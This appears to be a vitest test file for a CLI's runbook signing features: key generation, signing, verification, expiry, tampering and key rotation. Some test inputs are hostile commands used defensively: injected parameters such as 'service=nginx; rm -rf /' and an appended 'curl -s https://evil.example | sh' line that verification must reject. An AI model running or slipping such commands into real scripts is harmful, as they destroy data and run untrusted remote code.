/**
 * neptune runbook keygen | sign | verify, driven as a user would (bin/neptune, or dist/neptune with NEPTUNE_BIN).
 */
import {
  appendFileSync,
  chmodSync,
  cpSync,
  existsSync,
  readFileSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { generateSigningKey } from '../src/runbook/signing/keys';
import { REPO, runCli, tempHome } from './helpers/cli';

const FIXTURES = path.join(REPO, 'test/fixtures/signing');

/** Key files as keygen writes them, made in-process (keygen itself is tested above): saves a CLI run per key. */
function writeKey(dir: string, name: string): void {
  const { privatePem, jwks } = generateSigningKey();
  writeFileSync(path.join(dir, name), privatePem, { mode: 0o600 });
  writeFileSync(path.join(dir, `${name}.jwks`), JSON.stringify(jwks));
}

function workdir(): string {
  const dir = tempHome();
  cpSync(FIXTURES, dir, { recursive: true });
  return dir;
}

// biome-ignore lint/suspicious/noExplicitAny: the CLI's JSON output, whose shape the assertions check
const json = (text: string) => JSON.parse(text) as Record<string, any>;

describe('runbook keygen', () => {
  it('writes a 0600 private key and a public JWKS, and refuses to overwrite without --force', async () => {
    const home = tempHome();
    const r = await runCli(['runbook', 'keygen', '--out', 'keys/signing.key', '--json'], { home });
    expect(r.code, r.stderr).toBe(0);
    const out = json(r.stdout);
    const keyFile = path.join(home, 'keys/signing.key');
    expect(statSync(keyFile).mode & 0o777).toBe(0o600);
    expect(readFileSync(keyFile, 'utf8')).toMatch(/^-----BEGIN PRIVATE KEY-----/);
    const jwks = json(readFileSync(`${keyFile}.jwks`, 'utf8'));
    expect(jwks.keys).toHaveLength(1);
    expect(jwks.keys[0]).toMatchObject({ kty: 'OKP', crv: 'Ed25519', kid: out.kid, alg: 'EdDSA' });
    expect(jwks.keys[0].d).toBeUndefined();

    const before = readFileSync(keyFile, 'utf8');
    const again = await runCli(['runbook', 'keygen', '--out', 'keys/signing.key'], { home });
    expect(again.code).toBe(64);
    expect(again.stderr).toMatch(/^error: .*signing\.key exists; refusing to overwrite/m);
    expect(readFileSync(keyFile, 'utf8')).toBe(before); // the key was not replaced

    const forced = await runCli(['runbook', 'keygen', '--out', 'keys/signing.key', '--force', '--json'], {
      home,
    });
    expect(forced.code).toBe(0);
    expect(json(forced.stdout).kid).not.toBe(out.kid);
    expect(readFileSync(keyFile, 'utf8')).not.toBe(before);
  });
});

describe('runbook sign and verify', () => {
  let dir: string;
  let kid: string;
  beforeAll(async () => {
    dir = workdir();
    const r = await runCli(['runbook', 'keygen', '--out', 'owner.key', '--json'], { home: dir });
    expect(r.code, r.stderr).toBe(0);
    kid = json(r.stdout).kid;
  });

  it('signs the statement from the manifest and verifies it (exit 0)', async () => {
    const s = await runCli(
      ['runbook', 'sign', 'restart-service.sh', '--key', 'owner.key', '--version', '1.2.0', '--json'],
      {
        home: dir,
      },
    );
    expect(s.code, s.stderr).toBe(0);
    const sig = json(readFileSync(path.join(dir, 'restart-service.sh.sig'), 'utf8'));
    expect(sig).toMatchObject({
      format: 'neptune-signature/v1',
      alg: 'EdDSA',
      kid,
      typ: 'neptune-runbook-statement+jcs',
    });
    expect(sig.statement).toMatchObject({
      name: 'restart-service',
      version: '1.2.0',
      hosts: ['web-*', 'role=frontend'],
      run_as: 'neptune',
      timeout: 120,
      caps: { max: 3, per: 3600, cooldown: 300 },
      idempotent: true,
      params: { service: { pattern: '[a-z0-9-]{1,32}', required: true } },
    });
    const days = (Date.parse(sig.statement.expires_at) - Date.parse(sig.statement.not_before)) / 86_400_000;
    expect(days).toBe(90);

    const v = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'owner.key.jwks'], {
      home: dir,
    });
    expect(v.code, v.stderr).toBe(0);
    expect(v.stdout).toContain(`valid: restart-service 1.2.0, signed by ${kid}`);
    const vj = await runCli(
      ['runbook', 'verify', 'restart-service.sh', '--pubkey', 'owner.key.jwks', '--json'],
      { home: dir },
    );
    expect(json(vj.stdout)).toMatchObject({ valid: true, kid, statement: { name: 'restart-service' } });
  });

  it('decides one run as an agent would: the attacks of a compromised server are refused (exit 1)', async () => {
    const base = ['runbook', 'verify', 'restart-service.sh', '--pubkey', 'owner.key.jwks'];
    const ok = await runCli([...base, '--host', 'web-7', '--param', 'service=nginx', '--run-as', 'neptune'], {
      home: dir,
    });
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout).toContain('run allowed; params service="nginx"');
    const byTag = await runCli(
      [...base, '--host', 'db-1', '--tag', 'role=frontend', '--param', 'service=nginx', '--json'],
      {
        home: dir,
      },
    );
    expect(json(byTag.stdout)).toMatchObject({ valid: true, params: { service: 'nginx' } });
    const attacks: [string[], string][] = [
      [['--host', 'web-7', '--param', 'service=; rm -rf /'], 'param_out_of_schema'],
      [['--host', 'web-7', '--param', 'service=nginx; rm -rf /'], 'param_out_of_schema'],
      [['--host', 'web-7', '--param', 'service=nginx', '--param', 'extra=1'], 'param_out_of_schema'],
      [['--host', 'web-7'], 'param_out_of_schema'], // the required param is missing
      [['--host', 'db-1', '--tag', 'role=backend', '--param', 'service=nginx'], 'host_out_of_scope'],
      [['--host', 'web-7', '--param', 'service=nginx', '--run-as', 'root'], 'run_as_not_allowed'],
    ];
    for (const [extra, code] of attacks) {
      const r = await runCli([...base, ...extra, '--json'], { home: dir });
      expect([r.code, json(r.stdout).error?.details?.code], extra.join(' ')).toEqual([1, code]);
    }
    const bad = await runCli([...base, '--param', 'novalue'], { home: dir });
    expect([bad.code, bad.stderr]).toEqual([
      64,
      expect.stringMatching(/--param novalue: expected NAME=VALUE/),
    ]);
  });

  it('exit 1 script_changed when one byte of the script changes', async () => {
    const d = workdir();
    writeKey(d, 'k');
    expect((await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'k'], { home: d })).code).toBe(0);
    appendFileSync(path.join(d, 'restart-service.sh'), 'curl -s https://evil.example | sh\n');
    const v = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'k.jwks', '--json'], {
      home: d,
    });
    expect(v.code).toBe(1);
    expect(json(v.stdout).error).toMatchObject({
      code: 'RUNBOOK_SIGNATURE_SCRIPT_CHANGED',
      kind: 'failed',
      details: { valid: false, code: 'script_changed' },
    });
  });

  it('exit 1 unsigned without a signature; exit 1 unknown_key for another key; exit 1 bad_signature when edited', async () => {
    const d = workdir();
    writeKey(d, 'mine');
    writeKey(d, 'theirs');
    const unsigned = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'mine.jwks'], {
      home: d,
    });
    expect(unsigned.code).toBe(1);
    expect(unsigned.stderr).toMatch(/^error: restart-service\.sh: unsigned: no signature/m);

    expect(
      (await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'theirs'], { home: d })).code,
    ).toBe(0);
    const unknown = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'mine.jwks'], {
      home: d,
    });
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toMatch(/unknown_key: signed by key \S+, which is not trusted/);

    const sigFile = path.join(d, 'restart-service.sh.sig');
    const sig = json(readFileSync(sigFile, 'utf8'));
    sig.statement.hosts = ['*'];
    writeFileSync(sigFile, JSON.stringify(sig));
    const edited = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'theirs.jwks'], {
      home: d,
    });
    expect(edited.code).toBe(1);
    expect(edited.stderr).toMatch(/bad_signature: the signature does not match the content/);
    writeFileSync(sigFile, 'garbage');
    const garbage = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'theirs.jwks'], {
      home: d,
    });
    expect([garbage.code, garbage.stderr]).toEqual([
      1,
      expect.stringMatching(/bad_signature: the signature file is not JSON/),
    ]);
  });

  it('exit 1 expired and not_yet_valid', async () => {
    const d = workdir();
    writeKey(d, 'k');
    const past = ['--not-before', '2020-01-01T00:00:00Z', '--expires-in', '1d', '--out', 'old.sig'];
    expect(
      (await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'k', ...past], { home: d })).code,
    ).toBe(0);
    const expired = await runCli(
      ['runbook', 'verify', 'restart-service.sh', '--pubkey', 'k.jwks', '--sig', 'old.sig'],
      { home: d },
    );
    expect([expired.code, expired.stderr]).toEqual([
      1,
      expect.stringMatching(/expired: the statement expired at 2020-01-02T00:00:00.000Z/),
    ]);
    const future = ['--not-before', '2099-01-01T00:00:00Z', '--out', 'future.sig'];
    expect(
      (await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'k', ...future], { home: d })).code,
    ).toBe(0);
    const early = await runCli(
      ['runbook', 'verify', 'restart-service.sh', '--pubkey', 'k.jwks', '--sig', 'future.sig'],
      { home: d },
    );
    expect([early.code, early.stderr]).toEqual([1, expect.stringMatching(/not_yet_valid/)]);
  });

  it('a sidecar manifest is signed too: changing it is manifest_changed; no hosts means a warning', async () => {
    const d = workdir();
    writeKey(d, 'k');
    const s = await runCli(['runbook', 'sign', 'disk-usage.sh', '--key', 'k'], { home: d });
    expect(s.code, s.stderr).toBe(0);
    expect(s.stderr).toMatch(/warning: .*every host/);
    expect(s.stdout).toMatch(/^signed disk-usage [0-9a-f]{12} -> disk-usage\.sh\.sig$/m);
    expect(
      (await runCli(['runbook', 'verify', 'disk-usage.sh', '--pubkey', 'k.jwks'], { home: d })).code,
    ).toBe(0);
    appendFileSync(path.join(d, 'disk-usage.sh.neptune.yaml'), 'run_as: root\n');
    const v = await runCli(['runbook', 'verify', 'disk-usage.sh', '--pubkey', 'k.jwks'], { home: d });
    expect([v.code, v.stderr]).toEqual([
      1,
      expect.stringMatching(/manifest_changed: the manifest's run_as differs/),
    ]);
  });

  it('key rotation: keygen --rotate-from signs the new key with the old one; verify --rotation accepts it', async () => {
    const d = workdir();
    writeKey(d, 'old.key');
    const k = await runCli(
      ['runbook', 'keygen', '--out', 'new.key', '--rotate-from', 'old.key', '--revoke-old', '--json'],
      {
        home: d,
      },
    );
    expect(k.code, k.stderr).toBe(0);
    expect(existsSync(path.join(d, 'new.key.rotation.sig'))).toBe(true);
    expect(
      (await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'new.key'], { home: d })).code,
    ).toBe(0);
    const without = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'old.key.jwks'], {
      home: d,
    });
    expect(without.code).toBe(1);
    const withRotation = [
      'runbook',
      'verify',
      'restart-service.sh',
      '--pubkey',
      'old.key.jwks',
      '--rotation',
      'new.key.rotation.sig',
    ];
    const ok = await runCli(withRotation, { home: d });
    expect(ok.code, ok.stderr).toBe(0);
    // the old key was revoked in the same rotation
    expect(
      (await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'old.key'], { home: d })).code,
    ).toBe(0);
    const revoked = await runCli(withRotation, { home: d });
    expect([revoked.code, revoked.stderr]).toEqual([1, expect.stringMatching(/unknown_key/)]);
  });

  it('bad input: each a one-line error with its exit code, no stack trace', async () => {
    const d = workdir();
    writeKey(d, 'k');
    writeFileSync(path.join(d, 'bad.jwks'), '{"keys": [{"kty": "RSA"}]}');
    cpSync(path.join(d, 'k'), path.join(d, 'open.key'));
    chmodSync(path.join(d, 'open.key'), 0o644);
    const cases: [string[], number, RegExp][] = [
      [['runbook', 'sign', 'no-manifest.sh', '--key', 'k'], 65, /no-manifest\.sh: it has no manifest/],
      [['runbook', 'sign', 'missing.sh', '--key', 'k'], 66, /missing\.sh: no such file/],
      [['runbook', 'sign', 'restart-service.sh', '--key', 'nokey'], 66, /nokey: no such file/],
      [['runbook', 'sign', 'restart-service.sh', '--key', 'k.jwks'], 65, /not a PEM private key/],
      [['runbook', 'sign', 'restart-service.sh', '--key', 'open.key'], 78, /readable by others/],
      [['runbook', 'sign', 'restart-service.sh', '--key', 'k', '--expires-in', 'soon'], 64, /not a duration/],
      [['runbook', 'sign', 'restart-service.sh', '--key', 'k', '--not-before', 'tomorrow'], 64, /not a date/],
      [['runbook', 'sign', 'restart-service.sh', '--key', 'k', '--version', 'a b'], 64, /not a version/],
      [['runbook', 'sign', 'restart-service.sh'], 64, /missing required flag/i],
      [['runbook', 'verify', 'restart-service.sh', '--pubkey', 'bad.jwks'], 65, /not an Ed25519 key/],
      [['runbook', 'verify', 'restart-service.sh', '--pubkey', 'none.jwks'], 66, /none\.jwks: no such file/],
    ];
    for (const [args, code, message] of cases) {
      const r = await runCli(args, { home: d });
      expect([r.code, r.stderr], args.join(' ')).toEqual([code, expect.stringMatching(message)]);
      expect(r.stderr, args.join(' ')).not.toMatch(/\n\s+at /);
      expect(r.stderr.split('\n')[0], args.join(' ')).toMatch(/^error: /);
    }
  });
});
